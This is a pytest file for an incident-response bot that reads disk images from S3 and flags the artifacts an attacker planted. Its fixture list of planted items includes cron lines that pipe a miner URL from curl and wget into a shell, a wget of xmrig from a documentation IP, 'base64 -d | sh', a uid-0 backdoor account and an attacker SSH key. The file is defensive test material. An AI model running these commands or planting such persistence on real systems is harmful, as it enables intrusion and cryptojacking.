"""Disk analysis (issue 17): an image read in place from S3, and what the attacker left on it."""

from __future__ import annotations

import io
import os
import random

import boto3
import pytest

from actions.s3_file import S3File

BUCKET = "ir-evidence-analyze"


@pytest.fixture
def s3(aws):
    client = boto3.client("s3", region_name="us-east-1")
    client.create_bucket(Bucket=BUCKET)
    client.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    return client


def test_reads_at_any_offset_equal_the_objects_bytes(s3):
    data = os.urandom(5 * 4096 + 123)
    version = s3.put_object(Bucket=BUCKET, Key="disk.raw", Body=data)["VersionId"]
    f = S3File(s3, BUCKET, "disk.raw", block_size=4096, blocks_kept=3)
    assert f.size == len(data) and f.version_id == version
    chance = random.Random(17)
    for _ in range(200):
        offset = chance.randrange(0, len(data) + 100)
        length = chance.choice([0, 1, 7, 4095, 4096, 4097, 9000, 30000])
        f.seek(offset)
        expected = data[offset: offset + length]
        assert f.read(length) == expected
        assert f.tell() == offset + len(expected)
    f.seek(-10, io.SEEK_END)
    assert f.read() == data[-10:]
    f.seek(0)
    assert f.read() == data  # longer than the cache holds


def test_bytes_fetched_are_counted_and_cached_blocks_are_not_fetched_again(s3):
    data = os.urandom(10 * 4096)
    s3.put_object(Bucket=BUCKET, Key="disk.raw", Body=data)
    f = S3File(s3, BUCKET, "disk.raw", block_size=4096, blocks_kept=4)
    assert f.bytes_fetched == 0
    f.seek(4096 + 10)
    f.read(20)
    assert (f.bytes_fetched, f.requests) == (4096, 1)
    f.seek(4096 + 500)
    f.read(100)  # the same block: from the cache
    assert (f.bytes_fetched, f.requests) == (4096, 1)
    f.seek(3 * 4096 - 1)
    f.read(2 + 4096)  # blocks 2, 3 and 4: one request for the three
    assert (f.bytes_fetched, f.requests) == (4 * 4096, 2)


def test_reads_the_version_it_opened(s3):
    old = os.urandom(10000)
    version = s3.put_object(Bucket=BUCKET, Key="disk.raw", Body=old)["VersionId"]
    s3.put_object(Bucket=BUCKET, Key="disk.raw", Body=b"replaced")
    f = S3File(s3, BUCKET, "disk.raw", version_id=version)
    assert f.size == len(old)
    assert f.read() == old


def test_works_as_a_buffered_file(s3):
    data = os.urandom(70000)
    s3.put_object(Bucket=BUCKET, Key="disk.raw", Body=data)
    buffered = io.BufferedReader(S3File(s3, BUCKET, "disk.raw", block_size=8192))
    buffered.seek(12345)
    assert buffered.read(1000) == data[12345:13345]


# -- what the attacker left --------------------------------------------------------------------

from datetime import datetime, timedelta, timezone  # noqa: E402

from actions.analysis import analyse, open_image  # noqa: E402
from actions.errors import ActionError  # noqa: E402
from standins import disk_images  # noqa: E402
from tests.conftest import need_binary  # noqa: E402

INCIDENT = datetime.fromtimestamp(disk_images.INCIDENT, timezone.utc)
WINDOW = (INCIDENT - timedelta(days=1), INCIDENT + timedelta(days=1))
# (kind, path, a piece of the line) for each planted item.
PLANTED = [
    ("uid0_account", "/etc/passwd", "sysupdate:x:0:0"),
    ("new_account", "/etc/shadow", "sysupdate: password set 2025-03-10"),
    ("cron", "/etc/crontab", f"curl -fsSL {disk_images.MINER_URL} | sh"),
    ("cron", "/var/spool/cron/crontabs/www-data", f"wget -q -O- {disk_images.MINER_URL} | bash"),
    ("systemd_unit", "/etc/systemd/system/dbus-update.service", "ExecStart=/tmp/.x/kworker"),
    ("authorized_key", "/root/.ssh/authorized_keys", "attacker@kali"),
    ("shell_history", "/root/.bash_history", "wget http://203.0.113.7/xmrig.tar.gz"),
    ("shell_history", "/root/.bash_history", "chmod +x kworker"),
    ("shell_history", "/root/.bash_history", "base64 -d | sh"),
    ("temp_executable", "/tmp/.x/kworker", "-rwx"),
    ("etc_changed", "/etc/passwd", "modified 2025-03-10"),
]


@pytest.fixture(scope="module")
def images(tmp_path_factory):
    need_binary("mkfs.ext4")  # skipped without it, failed in CI
    workdir = tmp_path_factory.mktemp("images")
    return {
        "planted": disk_images.build_filesystem(workdir, planted=True, name="planted.img"),
        "clean": disk_images.build_filesystem(workdir, planted=False, name="clean.img"),
        "planted-partitioned": disk_images.build_disk(workdir, planted=True, disk_bytes=80 << 20, name="planted-disk.img"),
    }


def stored(s3, path) -> S3File:
    s3.upload_file(str(path), BUCKET, path.name)
    return S3File(s3, BUCKET, path.name)


def assert_planted_items_found(analysis):
    assert (analysis.os, analysis.hostname) == ("linux", "web-01")
    assert "Ubuntu 22.04" in analysis.version
    for kind, path, piece in PLANTED:
        assert any(f.kind == kind and f.path == path and piece in f.value for f in analysis.findings), (kind, path, piece)
    assert analysis.worst_first()[0].severity == "high"


def test_the_planted_filesystem_read_from_s3_names_each_planted_item(s3, images):
    image = stored(s3, images["planted"])
    analysis = analyse(open_image(image), window=WINDOW)
    assert_planted_items_found(analysis)
    # Nothing the host had before the incident is named, and each line points at where it came from.
    assert not [f for f in analysis.findings if "nginx" in f.value or "apt" in f.value]
    assert all(f.line for f in analysis.findings if f.kind in ("uid0_account", "cron", "systemd_unit", "shell_history"))
    assert image.bytes_fetched < image.size // 2


def test_the_planted_filesystem_inside_an_mbr_partition(images):
    with open(images["planted-partitioned"], "rb") as image:
        assert_planted_items_found(analyse(open_image(image), window=WINDOW))


def test_the_clean_filesystem_has_no_findings(s3, images):
    analysis = analyse(open_image(stored(s3, images["clean"])), window=WINDOW)
    assert (analysis.os, analysis.hostname) == ("linux", "web-01")
    assert analysis.findings == []


def test_an_image_without_a_filesystem_says_so(tmp_path):
    blank = tmp_path / "blank.img"
    blank.write_bytes(os.urandom(1 << 20) + bytes(3 << 20))
    with open(blank, "rb") as image, pytest.raises(ActionError, match="no filesystem"):
        open_image(image)


def test_findings_become_records_with_where_they_were_found(images):
    with open(images["planted"], "rb") as image:
        records = [f.record() for f in analyse(open_image(image), window=WINDOW).findings]
    assert all({"kind", "path", "value", "severity"} <= set(r) for r in records)
    assert all(r["modified"].startswith("2025-03-10") for r in records)


def test_the_timeline_is_timesketch_jsonl_naming_its_evidence(images):
    import json

    from actions.timeline import finding_lines, timesketch_lines

    with open(images["planted"], "rb") as image:
        findings = analyse(open_image(image), window=WINDOW).findings
    evidence = {"image": "incident-1/vol-0123.raw", "version_id": "v1", "sha256": "ab" * 32}
    events = [json.loads(line) for line in timesketch_lines(findings, evidence)]
    assert len(events) == len(findings)  # every planted finding's file has a time
    for event in events:
        assert {"message", "datetime", "timestamp_desc"} <= set(event)
        assert datetime.fromisoformat(event["datetime"]).tzinfo is not None
        assert event["evidence_sha256"] == evidence["sha256"] and event["path"] in event["message"]
    assert any("sysupdate:x:0:0" in e["message"] for e in events)
    records = [json.loads(line) for line in finding_lines(findings, evidence)]
    assert len(records) == len(findings) and all(r["evidence"] == evidence for r in records)


# -- /ir image then /ir analyze, through the bot, on moto's EBS direct APIs --------------------------------------

def analysed(irbot, slack, snapshot: str, *extra: str) -> str:
    from tests.helpers import CHANNEL

    def ended(word):
        return slack.wait_for(lambda s: next((now["text"] for m in s.top_level(CHANNEL) for now in [s.current(CHANNEL, m["ts"])]
                                              if f"/ir {word}" in now["text"] and now["text"].startswith(("Done", "Failed"))), None), timeout=240)

    irbot.command(f"image {snapshot}")
    assert ended("image").startswith("Done")
    irbot.command(" ".join(["analyze", snapshot, *extra]))
    return ended("analyze")


def test_image_then_analyze_names_every_planted_item_and_keeps_a_timesketch_timeline(aws, run_irbot, slack, tmp_path):
    import json

    from standins.disk_images import MINER_URL, build_filesystem, snapshot_of
    need_binary("mkfs.ext4")
    from tests.helpers import CHANNEL, evidence_keys, make_world

    make_world()
    snapshot = snapshot_of(build_filesystem(tmp_path, planted=True))
    irbot = run_irbot()
    card = analysed(irbot, slack, snapshot, "--since", "2025-03-01")
    assert card.startswith("Done"), card
    for planted in ("sysupdate:x:0:0", "sysupdate: password set 2025-03-10", MINER_URL, "/tmp/.x/kworker", "attacker@kali", "xmrig.tar.gz", "/etc/passwd", "base64 -d"):
        assert "notarealhash" not in card  # the shadow hash is a secret: never on the card
        assert planted in card, (planted, card)
    assert "linux" in card and "web-01" in card
    s3 = boto3.client("s3")
    [timeline_key] = [k for k in evidence_keys() if "/timeline-" in k]
    lines = s3.get_object(Bucket="ir-evidence", Key=timeline_key)["Body"].read().decode().splitlines()
    assert lines
    for line in lines:
        event = json.loads(line)
        assert event["message"] and event["timestamp_desc"] and datetime.fromisoformat(event["datetime"])
        assert event["evidence_image"].endswith(".raw") and len(event["evidence_sha256"]) == 64
    # the image is untouched: still one version, its digest as /ir image recorded it
    [raw] = [k for k in evidence_keys() if k.endswith(".raw")]
    versions = [v for v in s3.list_object_versions(Bucket="ir-evidence", Prefix=raw)["Versions"] if v["Key"] == raw]
    assert len(versions) == 1 and s3.head_object(Bucket="ir-evidence", Key=raw)["Metadata"]["sha256"] == event["evidence_sha256"]
    assert CHANNEL


def test_a_clean_filesystem_has_no_findings_and_an_unimaged_unknown_snapshot_is_one_sentence(aws, run_irbot, slack, tmp_path):
    from standins.disk_images import build_filesystem, snapshot_of
    need_binary("mkfs.ext4")
    from tests.helpers import make_world

    make_world()
    snapshot = snapshot_of(build_filesystem(tmp_path, planted=False))
    irbot = run_irbot()
    card = analysed(irbot, slack, snapshot, "--since", "2025-03-01")
    assert card.startswith("Done") and "0 findings on 1 image" in card, card
    slack.reset()
    irbot.command("analyze snap-0123456789abcdef0")
    refused = slack.wait_for(lambda s: next((now["text"] for m in s.top_level("C0INCIDENT") for now in [s.current("C0INCIDENT", m["ts"])]
                                             if "failed" in now["text"]), None), timeout=60)
    assert "snap-0123456789abcdef0 was not found" in refused, refused


def test_the_card_escapes_what_the_disk_says_and_stays_within_slacks_limits():
    """Every path and line on the card comes from the suspect's disk."""
    import json as json_module

    from chat.analysis import card
    from core.request import CommandRequest

    hostile = "<!channel> <https://evil.example|click> " + "x" * 4000
    request = CommandRequest(command="analyze", targets=("snap-0123456789abcdef0",), options={}, user_id="U0ALICE01", channel_id="C0", incident="C0")
    findings = [{"kind": "cron", "path": f"/etc/cron.d/{hostile}", "line": n, "value": hostile, "severity": "high"} for n in range(500)]
    facts = {"analyses": [{"volume": f"vol-{n}", "snapshot": "snap-0123456789abcdef0", "os": hostile, "hostname": hostile, "findings": findings}
                          for n in range(60)]}
    text, blocks = card(request, facts, [hostile], [])
    payload = json_module.dumps(blocks)
    assert "<!channel>" not in payload and "<https://evil" not in payload and "&lt;!channel&gt;" in payload
    assert len(blocks) <= 50 and all(len(b.get("text", {}).get("text", "")) <= 3000 for b in blocks) and len(text) <= 3000
    assert "more, every one in analysis-snap-0123456789abcdef0.jsonl" in payload


def test_a_line_the_attacker_shaped_against_the_patterns_costs_next_to_nothing():
    """History lines are the attacker's: each is matched on its first few thousand characters, by bounded patterns."""
    import time as clock

    from actions.analysis import LINE_LIMIT, _history_severity

    started = clock.monotonic()
    for line in ("chmod " + "+" * 200_000, "shred " * 50_000, "curl " + "a" * 500_000):
        _history_severity(line[:LINE_LIMIT])
        _history_severity(line[:LINE_LIMIT * 4])
    assert clock.monotonic() - started < 1.0


def test_an_encrypted_volume_says_so_and_what_to_try(tmp_path):
    disk = tmp_path / "luks.img"
    disk.write_bytes(b"LUKS\xba\xbe\x00\x02" + os.urandom(1 << 20) + bytes(7 << 20))
    with open(disk, "rb") as fh, pytest.raises(ActionError) as refused:
        open_image(fh)
    assert "encrypted volume" in str(refused.value) and "/ir workstation" in str(refused.value)
